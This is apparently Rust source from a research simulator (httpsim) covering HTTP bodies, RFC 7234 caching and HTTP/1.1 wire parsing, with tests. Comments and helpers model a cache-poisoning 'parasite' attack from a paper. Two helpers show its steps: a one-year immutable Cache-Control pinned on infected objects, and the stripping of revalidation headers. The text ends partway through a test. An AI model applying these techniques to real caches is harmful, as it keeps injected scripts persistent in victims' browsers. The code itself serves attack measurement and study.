    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            ResourceKind::Html => "html",
            ResourceKind::JavaScript => "javascript",
            ResourceKind::Css => "css",
            ResourceKind::Image => "image",
            ResourceKind::Svg => "svg",
            ResourceKind::Other => "other",
        };
        f.write_str(name)
    }
}

/// A message body: raw bytes plus the resource kind they represent.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, Default)]
pub struct Body {
    /// The payload bytes.
    pub bytes: Vec<u8>,
    /// What the payload is.
    pub kind: ResourceKind,
}

impl Body {
    /// Creates an empty body.
    pub fn empty() -> Self {
        Body {
            bytes: Vec::new(),
            kind: ResourceKind::Other,
        }
    }

    /// Creates a body from text content of a given kind.
    pub fn text(kind: ResourceKind, content: impl Into<String>) -> Self {
        Body {
            bytes: content.into().into_bytes(),
            kind,
        }
    }

    /// Creates a binary body.
    pub fn binary(kind: ResourceKind, bytes: impl Into<Vec<u8>>) -> Self {
        Body {
            bytes: bytes.into(),
            kind,
        }
    }

    /// Body length in bytes.
    pub fn len(&self) -> usize {
        self.bytes.len()
    }

    /// Returns `true` if the body has no bytes.
    pub fn is_empty(&self) -> bool {
        self.bytes.is_empty()
    }

    /// Returns the body as UTF-8 text (lossy).
    pub fn as_text(&self) -> String {
        String::from_utf8_lossy(&self.bytes).into_owned()
    }

    /// A cheap, stable content digest used for the persistency measurement
    /// (Figure 3 tracks objects by content hash) and for Subresource
    /// Integrity checks. FNV-1a, 64 bit.
    pub fn digest(&self) -> u64 {
        fnv1a(&self.bytes)
    }
}

/// FNV-1a 64-bit hash.
pub(crate) fn fnv1a(bytes: &[u8]) -> u64 {
    let mut hash: u64 = 0xcbf29ce484222325;
    for &b in bytes {
        hash ^= b as u64;
        hash = hash.wrapping_mul(0x100000001b3);
    }
    hash
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn content_type_detection() {
        assert_eq!(
            ResourceKind::from_content_type("text/javascript; charset=utf-8"),
            ResourceKind::JavaScript
        );
        assert_eq!(ResourceKind::from_content_type("TEXT/HTML"), ResourceKind::Html);
        assert_eq!(ResourceKind::from_content_type("image/svg+xml"), ResourceKind::Svg);
        assert_eq!(ResourceKind::from_content_type("image/png"), ResourceKind::Image);
        assert_eq!(ResourceKind::from_content_type("font/woff2"), ResourceKind::Other);
    }

    #[test]
    fn path_detection() {
        assert_eq!(ResourceKind::from_path("/static/js/app.js"), ResourceKind::JavaScript);
        assert_eq!(ResourceKind::from_path("/index.html"), ResourceKind::Html);
        assert_eq!(ResourceKind::from_path("/logo.svg"), ResourceKind::Svg);
        assert_eq!(ResourceKind::from_path("/photo.JPEG"), ResourceKind::Image);
        assert_eq!(ResourceKind::from_path("/download"), ResourceKind::Other);
    }

    #[test]
    fn only_script_and_markup_are_infectable() {
        assert!(ResourceKind::JavaScript.is_infectable());
        assert!(ResourceKind::Html.is_infectable());
        assert!(!ResourceKind::Css.is_infectable());
        assert!(!ResourceKind::Image.is_infectable());
        assert!(!ResourceKind::Svg.is_infectable());
    }

    #[test]
    fn digest_is_stable_and_content_sensitive() {
        let a = Body::text(ResourceKind::JavaScript, "var x = 1;");
        let b = Body::text(ResourceKind::JavaScript, "var x = 1;");
        let c = Body::text(ResourceKind::JavaScript, "var x = 2;");
        assert_eq!(a.digest(), b.digest());
        assert_ne!(a.digest(), c.digest());
    }

    #[test]
    fn text_round_trip() {
        let body = Body::text(ResourceKind::Html, "<html></html>");
        assert_eq!(body.as_text(), "<html></html>");
        assert_eq!(body.len(), 13);
        assert!(!body.is_empty());
        assert!(Body::empty().is_empty());
    }
}
