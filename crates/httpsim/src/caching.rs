//! HTTP caching semantics (RFC 7234 subset).
//!
//! The parasite's persistence (paper §VI-A) is entirely a function of these
//! rules: the attacker rewrites `Cache-Control` so the infected object is
//! stored "for as long as possible", and strips request validators so the
//! origin server never gets the chance to answer `304 Not Modified` with the
//! clean object. This module implements the freshness and revalidation logic
//! that browsers, network caches and the attack code all share.
//!
//! All times are expressed in whole seconds on the simulation clock.

use crate::headers::{names, HeaderMap};
use crate::message::{Request, Response, StatusCode};
use serde::{Deserialize, Serialize};

/// Parsed `Cache-Control` directives (the subset that matters here).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CacheDirectives {
    /// `max-age=N` in seconds.
    pub max_age: Option<u64>,
    /// `s-maxage=N` in seconds (shared caches).
    pub s_maxage: Option<u64>,
    /// `no-store`.
    pub no_store: bool,
    /// `no-cache` (store but always revalidate).
    pub no_cache: bool,
    /// `private` (end-client caches only).
    pub private: bool,
    /// `public`.
    pub public: bool,
    /// `must-revalidate`.
    pub must_revalidate: bool,
    /// `immutable`.
    pub immutable: bool,
}

impl CacheDirectives {
    /// Parses a `Cache-Control` header value.
    pub fn parse(value: &str) -> Self {
        let mut directives = CacheDirectives::default();
        for token in value.split(',') {
            let token = token.trim().to_ascii_lowercase();
            if let Some(arg) = token.strip_prefix("max-age=") {
                directives.max_age = arg.parse().ok();
            } else if let Some(arg) = token.strip_prefix("s-maxage=") {
                directives.s_maxage = arg.parse().ok();
            } else {
                match token.as_str() {
                    "no-store" => directives.no_store = true,
                    "no-cache" => directives.no_cache = true,
                    "private" => directives.private = true,
                    "public" => directives.public = true,
                    "must-revalidate" => directives.must_revalidate = true,
                    "immutable" => directives.immutable = true,
                    _ => {}
                }
            }
        }
        directives
    }

    /// Parses the directives from a header map (empty directives if absent).
    pub fn from_headers(headers: &HeaderMap) -> Self {
        headers
            .get(names::CACHE_CONTROL)
            .map(CacheDirectives::parse)
            .unwrap_or_default()
    }

    /// Renders the directives back to a `Cache-Control` value.
    pub fn to_header_value(&self) -> String {
        let mut parts = Vec::new();
        if self.public {
            parts.push("public".to_string());
        }
        if self.private {
            parts.push("private".to_string());
        }
        if let Some(age) = self.max_age {
            parts.push(format!("max-age={age}"));
        }
        if let Some(age) = self.s_maxage {
            parts.push(format!("s-maxage={age}"));
        }
        if self.immutable {
            parts.push("immutable".to_string());
        }
        if self.no_cache {
            parts.push("no-cache".to_string());
        }
        if self.no_store {
            parts.push("no-store".to_string());
        }
        if self.must_revalidate {
            parts.push("must-revalidate".to_string());
        }
        parts.join(", ")
    }
}

/// Freshness verdict for a stored response at a given moment.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Freshness {
    /// The stored response may be served without contacting the origin.
    Fresh {
        /// Seconds of freshness remaining.
        remaining_secs: u64,
    },
    /// The stored response is stale and should be revalidated.
    Stale {
        /// Seconds past its freshness lifetime.
        stale_for_secs: u64,
    },
    /// The response must always be revalidated before use (`no-cache`).
    AlwaysRevalidate,
    /// The response must not be stored at all (`no-store`).
    Uncacheable,
}

impl Freshness {
    /// Returns `true` if the stored copy may be used without revalidation.
    pub fn is_fresh(self) -> bool {
        matches!(self, Freshness::Fresh { .. })
    }
}

/// Validators carried by a stored response.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Validators {
    /// `ETag` value.
    pub etag: Option<String>,
    /// `Last-Modified` value (opaque string; equality comparison only).
    pub last_modified: Option<String>,
}

impl Validators {
    /// Extracts validators from response headers.
    pub fn from_headers(headers: &HeaderMap) -> Self {
        Validators {
            etag: headers.get(names::ETAG).map(str::to_string),
            last_modified: headers.get(names::LAST_MODIFIED).map(str::to_string),
        }
    }

    /// Returns `true` if any validator is present.
    pub fn any(&self) -> bool {
        self.etag.is_some() || self.last_modified.is_some()
    }
}

/// Caching policy evaluator shared by browser caches and network caches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct CachePolicy {
    /// Whether this cache is shared (proxy/CDN) — shared caches ignore
    /// `private` responses and honour `s-maxage`.
    pub shared: bool,
    /// Heuristic freshness (seconds) applied when a cacheable response has no
    /// explicit lifetime. Browsers commonly use a fraction of the resource's
    /// age; a fixed small default keeps the model simple and conservative.
    pub heuristic_lifetime_secs: u64,
}

impl Default for CachePolicy {
    fn default() -> Self {
        CachePolicy {
            shared: false,
            heuristic_lifetime_secs: 300,
        }
    }
}

impl CachePolicy {
    /// Policy for a private (browser) cache.
    pub fn private_cache() -> Self {
        Self::default()
    }

    /// Policy for a shared (proxy/CDN/ISP) cache.
    pub fn shared_cache() -> Self {
        CachePolicy {
            shared: true,
            ..Self::default()
        }
    }

    /// Returns `true` if the response may be stored by this cache at all.
    pub fn is_storable(&self, response: &Response) -> bool {
        if !(response.status.is_success() || response.status == StatusCode::MOVED_PERMANENTLY) {
            return false;
        }
        let directives = CacheDirectives::from_headers(&response.headers);
        if directives.no_store {
            return false;
        }
        if self.shared && directives.private {
            return false;
        }
        true
    }

    /// Explicit freshness lifetime of a response, in seconds, if any.
    pub fn explicit_lifetime(&self, response: &Response) -> Option<u64> {
        let directives = CacheDirectives::from_headers(&response.headers);
        if self.shared {
            if let Some(s) = directives.s_maxage {
                return Some(s);
            }
        }
        if let Some(age) = directives.max_age {
            return Some(age);
        }
        // `Expires` is modelled as an absolute second count on the simulation
        // clock, written as a bare integer (we do not model HTTP-date syntax).
        if let (Some(expires), Some(date)) = (
            response.headers.get(names::EXPIRES).and_then(|v| v.parse::<u64>().ok()),
            response.headers.get(names::DATE).and_then(|v| v.parse::<u64>().ok()),
        ) {
            return Some(expires.saturating_sub(date));
        }
        None
    }

    /// Freshness lifetime including the heuristic fallback.
    pub fn freshness_lifetime(&self, response: &Response) -> u64 {
        self.explicit_lifetime(response)
            .unwrap_or(self.heuristic_lifetime_secs)
    }

    /// Evaluates the freshness of a response stored `age_secs` ago.
    pub fn freshness(&self, response: &Response, age_secs: u64) -> Freshness {
        let directives = CacheDirectives::from_headers(&response.headers);
        if directives.no_store || !self.is_storable(response) {
            return Freshness::Uncacheable;
        }
        if directives.no_cache {
            return Freshness::AlwaysRevalidate;
        }
        let lifetime = self.freshness_lifetime(response);
        if age_secs < lifetime {
            Freshness::Fresh {
                remaining_secs: lifetime - age_secs,
            }
        } else {
            Freshness::Stale {
                stale_for_secs: age_secs - lifetime,
            }
        }
    }

    /// Builds the conditional revalidation request a cache would send for a
    /// stale stored response.
    pub fn revalidation_request(&self, original: &Request, stored: &Response) -> Request {
        let mut request = original.clone();
        let validators = Validators::from_headers(&stored.headers);
        if let Some(etag) = validators.etag {
            request.headers.set(names::IF_NONE_MATCH, etag);
        }
        if let Some(lm) = validators.last_modified {
            request.headers.set(names::IF_MODIFIED_SINCE, lm);
        }
        request
    }

    /// Server-side check: does the conditional request match the current
    /// object (so a `304 Not Modified` is the right answer)?
    pub fn validators_match(&self, request: &Request, current: &Response) -> bool {
        let current_validators = Validators::from_headers(&current.headers);
        if let (Some(sent), Some(have)) = (request.headers.get(names::IF_NONE_MATCH), &current_validators.etag) {
            return sent == have;
        }
        if let (Some(sent), Some(have)) = (
            request.headers.get(names::IF_MODIFIED_SINCE),
            &current_validators.last_modified,
        ) {
            return sent == have;
        }
        false
    }
}

/// Convenience: the `Cache-Control` value the attacker pins on infected
/// objects to keep them cached "as long as possible" (paper §VI-A).
pub fn parasite_pin_header() -> String {
    CacheDirectives {
        public: true,
        max_age: Some(31_536_000),
        immutable: true,
        ..Default::default()
    }
    .to_header_value()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::body::{Body, ResourceKind};
    use crate::url::Url;

    fn js_response(cache_control: &str) -> Response {
        Response::ok(Body::text(ResourceKind::JavaScript, "var a=1;")).with_cache_control(cache_control)
    }

    #[test]
    fn parse_directives() {
        let d = CacheDirectives::parse("public, max-age=31536000, immutable");
        assert_eq!(d.max_age, Some(31_536_000));
        assert!(d.public && d.immutable);
        assert!(!d.no_store);

        let d = CacheDirectives::parse("private, no-cache, s-maxage=60");
        assert!(d.private && d.no_cache);
        assert_eq!(d.s_maxage, Some(60));
    }

    #[test]
    fn directives_round_trip_through_header_value() {
        let d = CacheDirectives::parse("public, max-age=600, must-revalidate");
        let rendered = d.to_header_value();
        let reparsed = CacheDirectives::parse(&rendered);
        assert_eq!(d, reparsed);
    }

    #[test]
    fn freshness_fresh_then_stale() {
        let policy = CachePolicy::private_cache();
        let response = js_response("max-age=100");
        assert_eq!(
            policy.freshness(&response, 40),
            Freshness::Fresh { remaining_secs: 60 }
        );
        assert_eq!(
            policy.freshness(&response, 150),
            Freshness::Stale { stale_for_secs: 50 }
        );
    }

    #[test]
    fn no_store_and_no_cache_are_respected() {
        let policy = CachePolicy::private_cache();
        assert_eq!(policy.freshness(&js_response("no-store"), 0), Freshness::Uncacheable);
        assert!(!policy.is_storable(&js_response("no-store")));
        assert_eq!(
            policy.freshness(&js_response("no-cache, max-age=100"), 0),
            Freshness::AlwaysRevalidate
        );
    }

    #[test]
    fn shared_cache_rejects_private_and_prefers_s_maxage() {
        let shared = CachePolicy::shared_cache();
        let private_resp = js_response("private, max-age=600");
        assert!(!shared.is_storable(&private_resp));
        assert_eq!(shared.freshness(&private_resp, 0), Freshness::Uncacheable);

        let resp = js_response("max-age=60, s-maxage=600");
        assert_eq!(shared.freshness(&resp, 300), Freshness::Fresh { remaining_secs: 300 });
        let browser = CachePolicy::private_cache();
        assert_eq!(browser.freshness(&resp, 300), Freshness::Stale { stale_for_secs: 240 });
    }

    #[test]
    fn expires_minus_date_is_used_when_no_max_age() {
        let policy = CachePolicy::private_cache();
        let response = Response::ok(Body::text(ResourceKind::JavaScript, "x"))
            .with_header(names::DATE, "1000")
            .with_header(names::EXPIRES, "4000");
        assert_eq!(policy.explicit_lifetime(&response), Some(3000));
    }

    #[test]
    fn heuristic_lifetime_applies_without_explicit_headers() {
        let policy = CachePolicy::private_cache();
        let response = Response::ok(Body::text(ResourceKind::JavaScript, "x"));
        assert_eq!(policy.freshness_lifetime(&response), 300);
        assert!(policy.freshness(&response, 10).is_fresh());
        assert!(!policy.freshness(&response, 1000).is_fresh());
    }

    #[test]
    fn error_responses_are_not_stored() {
        let policy = CachePolicy::private_cache();
        let response = Response::not_found();
        assert!(!policy.is_storable(&response));
    }

    #[test]
    fn revalidation_request_carries_stored_validators() {
        let policy = CachePolicy::private_cache();
        let stored = js_response("max-age=1").with_etag("\"v7\"").with_header(names::LAST_MODIFIED, "12345");
        let original = Request::get(Url::parse("http://top1.com/persistent.js").unwrap());
        let revalidation = policy.revalidation_request(&original, &stored);
        assert_eq!(revalidation.headers.get(names::IF_NONE_MATCH), Some("\"v7\""));
        assert_eq!(revalidation.headers.get(names::IF_MODIFIED_SINCE), Some("12345"));
        assert!(revalidation.is_conditional());

        // Server-side: current object still has the same ETag -> 304 applies.
        assert!(policy.validators_match(&revalidation, &stored));
        let changed = js_response("max-age=1").with_etag("\"v8\"");
        assert!(!policy.validators_match(&revalidation, &changed));
    }

    #[test]
    fn parse_is_case_insensitive_and_whitespace_tolerant() {
        let d = CacheDirectives::parse("  Public ,  MAX-AGE=60 ,IMMUTABLE  ");
        assert!(d.public && d.immutable);
        assert_eq!(d.max_age, Some(60));
    }

    #[test]
    fn malformed_and_unknown_directives_are_ignored() {
        let d = CacheDirectives::parse("max-age=abc, s-maxage=, stale-while-revalidate=30, max-age=-5");
        assert_eq!(d, CacheDirectives::default());
        // A later well-formed directive still takes effect.
        let d = CacheDirectives::parse("max-age=oops, max-age=90");
        assert_eq!(d.max_age, Some(90));
    }

    #[test]
    fn freshness_boundary_is_stale() {
        // RFC 7234: a response is fresh while age < lifetime, so at exactly
        // its lifetime it is stale by zero seconds.
        let policy = CachePolicy::private_cache();
        let response = js_response("max-age=100");
        assert_eq!(policy.freshness(&response, 100), Freshness::Stale { stale_for_secs: 0 });
    }

    #[test]
    fn etag_comparison_shadows_last_modified() {
        // When both sides carry an ETag, its verdict is final: a matching
        // Last-Modified must not rescue a failed strong-validator comparison.
        let policy = CachePolicy::private_cache();
        let stored = js_response("max-age=1").with_etag("\"v1\"").with_header(names::LAST_MODIFIED, "777");
        let original = Request::get(Url::parse("http://top1.com/app.js").unwrap());
        let revalidation = policy.revalidation_request(&original, &stored);
        let rotated = js_response("max-age=1").with_etag("\"v2\"").with_header(names::LAST_MODIFIED, "777");
        assert!(!policy.validators_match(&revalidation, &rotated));
    }

    #[test]
    fn last_modified_is_used_when_no_etag() {
        let policy = CachePolicy::private_cache();
        let stored = js_response("max-age=1").with_header(names::LAST_MODIFIED, "777");
        let original = Request::get(Url::parse("http://top1.com/app.js").unwrap());
        let revalidation = policy.revalidation_request(&original, &stored);
        assert!(policy.validators_match(&revalidation, &stored));
        let touched = js_response("max-age=1").with_header(names::LAST_MODIFIED, "778");
        assert!(!policy.validators_match(&revalidation, &touched));
        // No validators anywhere: a 304 is never the right answer.
        let bare = js_response("max-age=1");
        assert!(!policy.validators_match(&original, &bare));
    }

    #[test]
    fn validators_any_reflects_either_field() {
        assert!(!Validators::default().any());
        let stored = js_response("max-age=1").with_etag("\"v1\"");
        assert!(Validators::from_headers(&stored.headers).any());
        let stored = js_response("max-age=1").with_header(names::LAST_MODIFIED, "1");
        assert!(Validators::from_headers(&stored.headers).any());
    }

    #[test]
    fn parasite_pin_header_is_maximally_sticky() {
        let value = parasite_pin_header();
        let d = CacheDirectives::parse(&value);
        assert_eq!(d.max_age, Some(31_536_000));
        assert!(d.public && d.immutable && !d.no_store && !d.no_cache);
    }
}
