//! HTTP/1.1 requests and responses.
//!
//! Messages have both a structured form (used by the browser, caches and the
//! parasite logic) and an HTTP/1.1 wire form (used when a message travels
//! across a simulated TCP connection, where the master's injector races
//! spoofed wire bytes against the genuine server).

use crate::body::{Body, ResourceKind};
use crate::error::HttpError;
use crate::headers::{names, HeaderMap};
use crate::url::{Scheme, Url};
use serde::{Deserialize, Serialize};
use std::fmt;

/// HTTP request method.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Method {
    /// GET — the only method browser subresource fetches use here.
    Get,
    /// POST — used by login forms and the C&C upstream channel.
    Post,
    /// HEAD.
    Head,
}

impl Method {
    /// Wire name of the method.
    pub fn as_str(self) -> &'static str {
        match self {
            Method::Get => "GET",
            Method::Post => "POST",
            Method::Head => "HEAD",
        }
    }

    /// Parses a method token.
    pub fn parse(token: &str) -> Option<Method> {
        match token {
            "GET" => Some(Method::Get),
            "POST" => Some(Method::Post),
            "HEAD" => Some(Method::Head),
            _ => None,
        }
    }
}

impl fmt::Display for Method {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// HTTP status code.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct StatusCode(pub u16);

impl StatusCode {
    /// 200 OK.
    pub const OK: StatusCode = StatusCode(200);
    /// 304 Not Modified — what the parasite must *prevent* the server from
    /// sending, because a 304 would revalidate the genuine object.
    pub const NOT_MODIFIED: StatusCode = StatusCode(304);
    /// 301 Moved Permanently.
    pub const MOVED_PERMANENTLY: StatusCode = StatusCode(301);
    /// 302 Found.
    pub const FOUND: StatusCode = StatusCode(302);
    /// 404 Not Found.
    pub const NOT_FOUND: StatusCode = StatusCode(404);
    /// 500 Internal Server Error.
    pub const INTERNAL_SERVER_ERROR: StatusCode = StatusCode(500);

    /// Returns `true` for 2xx codes.
    pub fn is_success(self) -> bool {
        (200..300).contains(&self.0)
    }

    /// Returns `true` for 3xx codes.
    pub fn is_redirect(self) -> bool {
        (300..400).contains(&self.0)
    }

    /// The standard reason phrase.
    pub fn reason(self) -> &'static str {
        match self.0 {
            200 => "OK",
            301 => "Moved Permanently",
            302 => "Found",
            304 => "Not Modified",
            400 => "Bad Request",
            403 => "Forbidden",
            404 => "Not Found",
            500 => "Internal Server Error",
            _ => "Unknown",
        }
    }
}

impl fmt::Display for StatusCode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {}", self.0, self.reason())
    }
}

/// An HTTP request.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Request {
    /// Method.
    pub method: Method,
    /// Full target URL.
    pub url: Url,
    /// Headers.
    pub headers: HeaderMap,
    /// Body (empty for GET).
    pub body: Body,
}

impl Request {
    /// Creates a GET request for `url` with a `Host` header.
    pub fn get(url: Url) -> Self {
        let mut headers = HeaderMap::new();
        headers.set(names::HOST, url.host.clone());
        Request {
            method: Method::Get,
            url,
            headers,
            body: Body::empty(),
        }
    }

    /// Creates a POST request with a body.
    pub fn post(url: Url, body: Body) -> Self {
        let mut headers = HeaderMap::new();
        headers.set(names::HOST, url.host.clone());
        headers.set(names::CONTENT_LENGTH, body.len().to_string());
        Request {
            method: Method::Post,
            url,
            headers,
            body,
        }
    }

    /// Adds a conditional-request validator (`If-None-Match`).
    pub fn with_etag_validator(mut self, etag: &str) -> Self {
        self.headers.set(names::IF_NONE_MATCH, etag);
        self
    }

    /// Returns `true` if the request carries any conditional validators.
    pub fn is_conditional(&self) -> bool {
        self.headers.contains(names::IF_NONE_MATCH) || self.headers.contains(names::IF_MODIFIED_SINCE)
    }

    /// Removes all conditional validators. The master applies this to
    /// forwarded revalidation requests so the server answers with a full
    /// `200` body instead of `304 Not Modified` (paper §VI-A, "requesting the
    /// infected objects").
    pub fn strip_validators(&mut self) {
        self.headers.remove(names::IF_NONE_MATCH);
        self.headers.remove(names::IF_MODIFIED_SINCE);
    }

    /// Serialises the request to its HTTP/1.1 wire form.
    pub fn to_wire(&self) -> Vec<u8> {
        let target = match &self.url.query {
            Some(q) => format!("{}?{}", self.url.path, q),
            None => self.url.path.clone(),
        };
        let mut out = format!("{} {} HTTP/1.1\r\n{}\r\n", self.method, target, self.headers.to_wire()).into_bytes();
        out.extend_from_slice(&self.body.bytes);
        out
    }

    /// Parses a request from its wire form (assumes the full message is
    /// present, as the simulator delivers complete streams).
    ///
    /// # Errors
    ///
    /// Returns [`HttpError::MalformedMessage`] when the request line or
    /// headers cannot be parsed.
    pub fn from_wire(bytes: &[u8], scheme: Scheme) -> Result<Self, HttpError> {
        let (head, body_bytes) = split_head(bytes)?;
        let mut lines = head.lines();
        let request_line = lines.next().ok_or_else(|| HttpError::MalformedMessage {
            reason: "missing request line".into(),
        })?;
        let mut parts = request_line.split_whitespace();
        let method = parts
            .next()
            .and_then(Method::parse)
            .ok_or_else(|| HttpError::MalformedMessage {
                reason: format!("bad method in request line {request_line:?}"),
            })?;
        let target = parts.next().ok_or_else(|| HttpError::MalformedMessage {
            reason: "missing request target".into(),
        })?;

        let headers = parse_header_lines(lines)?;
        let host = headers.get(names::HOST).unwrap_or("unknown.host").to_string();
        let url = Url::parse(&format!("{}://{}{}", scheme.as_str(), host, target))?;
        let kind = headers
            .get(names::CONTENT_TYPE)
            .map(ResourceKind::from_content_type)
            .unwrap_or(ResourceKind::Other);
        Ok(Request {
            method,
            url,
            headers,
            body: Body::binary(kind, body_bytes.to_vec()),
        })
    }
}

/// An HTTP response.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Response {
    /// Status code.
    pub status: StatusCode,
    /// Headers.
    pub headers: HeaderMap,
    /// Body.
    pub body: Body,
}

impl Response {
    /// Creates a `200 OK` response carrying `body`.
    pub fn ok(body: Body) -> Self {
        let mut headers = HeaderMap::new();
        headers.set(names::CONTENT_TYPE, body.kind.content_type());
        headers.set(names::CONTENT_LENGTH, body.len().to_string());
        Response {
            status: StatusCode::OK,
            headers,
            body,
        }
    }

    /// Creates a `304 Not Modified` response.
    pub fn not_modified() -> Self {
        Response {
            status: StatusCode::NOT_MODIFIED,
            headers: HeaderMap::new(),
            body: Body::empty(),
        }
    }

    /// Creates a `404 Not Found` response.
    pub fn not_found() -> Self {
        Response {
            status: StatusCode::NOT_FOUND,
            headers: HeaderMap::new(),
            body: Body::text(ResourceKind::Html, "<html><body>404</body></html>"),
        }
    }

    /// Sets the `Cache-Control` header (builder style).
    pub fn with_cache_control(mut self, value: &str) -> Self {
        self.headers.set(names::CACHE_CONTROL, value);
        self
    }

    /// Sets an `ETag` (builder style).
    pub fn with_etag(mut self, etag: &str) -> Self {
        self.headers.set(names::ETAG, etag);
        self
    }

    /// Sets an arbitrary header (builder style).
    pub fn with_header(mut self, name: &str, value: &str) -> Self {
        self.headers.set(name, value);
        self
    }

    /// Serialises the response to its HTTP/1.1 wire form.
    pub fn to_wire(&self) -> Vec<u8> {
        let mut out = format!(
            "HTTP/1.1 {}\r\n{}\r\n",
            self.status,
            self.headers.to_wire()
        )
        .into_bytes();
        out.extend_from_slice(&self.body.bytes);
        out
    }

    /// Parses a response from its wire form.
    ///
    /// # Errors
    ///
    /// Returns [`HttpError::MalformedMessage`] when the status line or headers
    /// cannot be parsed.
    pub fn from_wire(bytes: &[u8]) -> Result<Self, HttpError> {
        let (head, body_bytes) = split_head(bytes)?;
        let mut lines = head.lines();
        let status_line = lines.next().ok_or_else(|| HttpError::MalformedMessage {
            reason: "missing status line".into(),
        })?;
        let mut parts = status_line.split_whitespace();
        let version = parts.next().unwrap_or("");
        if !version.starts_with("HTTP/1.") {
            return Err(HttpError::MalformedMessage {
                reason: format!("unsupported version in status line {status_line:?}"),
            });
        }
        let code: u16 = parts
            .next()
            .and_then(|c| c.parse().ok())
            .ok_or_else(|| HttpError::MalformedMessage {
                reason: format!("bad status code in {status_line:?}"),
            })?;
        let headers = parse_header_lines(lines)?;
        let kind = headers
            .get(names::CONTENT_TYPE)
            .map(ResourceKind::from_content_type)
            .unwrap_or(ResourceKind::Other);
        // Respect Content-Length framing: bytes beyond the declared length do
        // not belong to this message. This matters for the injection-race
        // experiments, where a losing attacker's late segments can trail the
        // genuine response in the byte stream.
        let body_len = headers
            .get(names::CONTENT_LENGTH)
            .and_then(|v| v.parse::<usize>().ok())
            .unwrap_or(body_bytes.len())
            .min(body_bytes.len());
        Ok(Response {
            status: StatusCode(code),
            headers,
            body: Body::binary(kind, body_bytes[..body_len].to_vec()),
        })
    }
}

fn split_head(bytes: &[u8]) -> Result<(String, &[u8]), HttpError> {
    let window = bytes.windows(4).position(|w| w == b"\r\n\r\n");
    match window {
        Some(idx) => {
            let head = String::from_utf8_lossy(&bytes[..idx]).into_owned();
            Ok((head, &bytes[idx + 4..]))
        }
        None => Err(HttpError::MalformedMessage {
            reason: "missing header/body separator".into(),
        }),
    }
}

fn parse_header_lines<'a>(lines: impl Iterator<Item = &'a str>) -> Result<HeaderMap, HttpError> {
    let mut headers = HeaderMap::new();
    for line in lines {
        if line.trim().is_empty() {
            continue;
        }
        let (name, value) = line.split_once(':').ok_or_else(|| HttpError::MalformedMessage {
            reason: format!("header line without colon: {line:?}"),
        })?;
        headers.append(name.trim(), value.trim().to_string());
    }
    Ok(headers)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn get_request_wire_round_trip() {
        let url = Url::parse("http://somesite.com/my.js?v=3").unwrap();
        let request = Request::get(url.clone());
        let wire = request.to_wire();
        let text = String::from_utf8(wire.clone()).unwrap();
        assert!(text.starts_with("GET /my.js?v=3 HTTP/1.1\r\n"));
        assert!(text.contains("Host: somesite.com\r\n"));

        let parsed = Request::from_wire(&wire, Scheme::Http).unwrap();
        assert_eq!(parsed.method, Method::Get);
        assert_eq!(parsed.url, url);
    }

    #[test]
    fn post_request_carries_body_and_length() {
        let url = Url::parse("https://mail.example/send").unwrap();
        let body = Body::text(ResourceKind::Other, "to=alice&subject=hi");
        let request = Request::post(url, body);
        assert_eq!(request.headers.get("content-length"), Some("19"));
        let parsed = Request::from_wire(&request.to_wire(), Scheme::Https).unwrap();
        assert_eq!(parsed.body.as_text(), "to=alice&subject=hi");
        assert_eq!(parsed.method, Method::Post);
    }

    #[test]
    fn response_wire_round_trip_preserves_headers_and_body() {
        let body = Body::text(ResourceKind::JavaScript, "console.log('hi');");
        let response = Response::ok(body)
            .with_cache_control("public, max-age=31536000")
            .with_etag("\"v1\"");
        let wire = response.to_wire();
        let parsed = Response::from_wire(&wire).unwrap();
        assert_eq!(parsed.status, StatusCode::OK);
        assert_eq!(parsed.headers.get("cache-control"), Some("public, max-age=31536000"));
        assert_eq!(parsed.headers.get("etag"), Some("\"v1\""));
        assert_eq!(parsed.body.kind, ResourceKind::JavaScript);
        assert_eq!(parsed.body.as_text(), "console.log('hi');");
    }

    #[test]
    fn malformed_messages_are_rejected() {
        assert!(Response::from_wire(b"not http at all").is_err());
        assert!(Response::from_wire(b"SPDY/3 200 OK\r\n\r\n").is_err());
        assert!(Request::from_wire(b"FETCH / HTTP/1.1\r\n\r\n", Scheme::Http).is_err());
        assert!(Request::from_wire(b"GET /\r\nbroken", Scheme::Http).is_err());
    }

    #[test]
    fn conditional_request_detection_and_stripping() {
        let url = Url::parse("http://top1.com/persistent.js").unwrap();
        let mut request = Request::get(url).with_etag_validator("\"abc\"");
        assert!(request.is_conditional());
        request.strip_validators();
        assert!(!request.is_conditional());
    }

    #[test]
    fn status_code_classification() {
        assert!(StatusCode::OK.is_success());
        assert!(!StatusCode::OK.is_redirect());
        assert!(StatusCode::FOUND.is_redirect());
        assert!(!StatusCode::NOT_MODIFIED.is_success());
        assert_eq!(StatusCode::NOT_MODIFIED.to_string(), "304 Not Modified");
    }

    #[test]
    fn not_modified_and_not_found_constructors() {
        assert_eq!(Response::not_modified().status, StatusCode::NOT_MODIFIED);
        assert!(Response::not_modified().body.is_empty());
        assert_eq!(Response::not_found().status, StatusCode::NOT_FOUND);
    }
}

#[cfg(test)]
mod framing_tests {
    use super::*;

    #[test]
    fn trailing_bytes_beyond_content_length_are_not_part_of_the_body() {
        let body = Body::text(ResourceKind::JavaScript, "function genuine(){}");
        let response = Response::ok(body);
        let mut wire = response.to_wire();
        wire.extend_from_slice(b";TRAILING_GARBAGE_FROM_A_LATE_SEGMENT;");
